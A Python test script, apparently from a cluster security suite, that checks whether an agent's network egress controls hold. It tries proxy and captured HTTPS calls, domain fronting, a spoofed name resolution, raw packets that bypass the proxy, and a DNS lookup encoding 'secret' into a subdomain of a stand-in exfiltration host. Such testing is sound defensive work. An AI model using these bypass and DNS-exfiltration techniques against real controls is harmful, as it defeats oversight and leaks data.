"""What the agent of the cluster suite tries: prints one JSON line a try. It sets nothing: no proxy, no CA, no address.

With `packets` before the arguments only the packets are tried: what a pod without capture does with the same ones.
"""
import json, os, socket, subprocess, sys, urllib.error, urllib.request

PACKETS_ONLY = sys.argv[1] == 'packets'
TOOL, OTHER, SERVER, DNS, SERVER6 = sys.argv[2 if PACKETS_ONLY else 1:][:5]
BY_NAME_ONLY = {k: v for k, v in os.environ.items() if 'proxy' not in k.lower()}


def told(name, **facts):
    print(json.dumps({'try': name, **facts}), flush=True)


def curl(name, *args, env=None):
    done = subprocess.run(['curl', '-sS', '-m', '10', '-w', '\n%{http_code}', *args], capture_output=True, text=True, env=env)
    body, _, status = done.stdout.rpartition('\n')
    told(name, code=done.returncode, status=int(status or 0), body=body, err=done.stderr.strip())


def python(name, url):
    try:
        with urllib.request.urlopen(url, timeout=10) as answer:
            told(name, status=answer.status, body=answer.read().decode())
    except urllib.error.HTTPError as refused:
        told(name, status=refused.code, body=refused.read().decode())
    except Exception as fault:
        told(name, status=0, err=repr(fault))


def packet(name, family, kind, address, payload=None):
    s = socket.socket(family, kind)
    s.settimeout(3)
    try:
        s.connect(address)
        if payload is not None:
            s.send(payload)
            s.recv(512)
        told(name, reached=True)
    except Exception as fault:
        told(name, reached=False, err=type(fault).__name__, errno=getattr(fault, 'errno', None))
    finally:
        s.close()


QUERY = bytes.fromhex('12340100000100000000000007657866696c747203636f6d0000010001')

if not PACKETS_ONLY:
    curl('allowed, by proxy variables', f'https://{TOOL}/v1/items')
    curl('allowed, captured', f'https://{TOOL}/v1/items', env=BY_NAME_ONLY)
    python('allowed, python', f'https://{TOOL}/v1/items')
    curl('denied path', '-X', 'DELETE', f'https://{TOOL}/v1/items/1')
    curl('denied path, captured', '-X', 'DELETE', f'https://{TOOL}/v1/items/1', env=BY_NAME_ONLY)
    curl('denied host', f'https://{OTHER}/new')
    curl('denied host, captured', f'https://{OTHER}/new', env=BY_NAME_ONLY)
    python('denied host, python', f'https://{OTHER}/new')
    curl('fronting', '-H', f'Host: {OTHER}', f'https://{TOOL}/v1/items', env=BY_NAME_ONLY)
    curl('spoofed name', '--resolve', f'{TOOL}:443:{SERVER}', f'https://{TOOL}/v1/items', env=BY_NAME_ONLY)
    told('name with data', address=socket.gethostbyname('c2VjcmV0.exfiltrate.example.org'))
packet('tcp by address', socket.AF_INET, socket.SOCK_STREAM, (SERVER, 443))
packet('udp by address', socket.AF_INET, socket.SOCK_DGRAM, (SERVER, 5353), b'data')
packet('dns of the cluster, udp', socket.AF_INET, socket.SOCK_DGRAM, (DNS, 53), QUERY)
packet('dns of the cluster, tcp', socket.AF_INET, socket.SOCK_STREAM, (DNS, 53))
packet('ipv6', socket.AF_INET6, socket.SOCK_STREAM, (SERVER6, 443))
told('done')
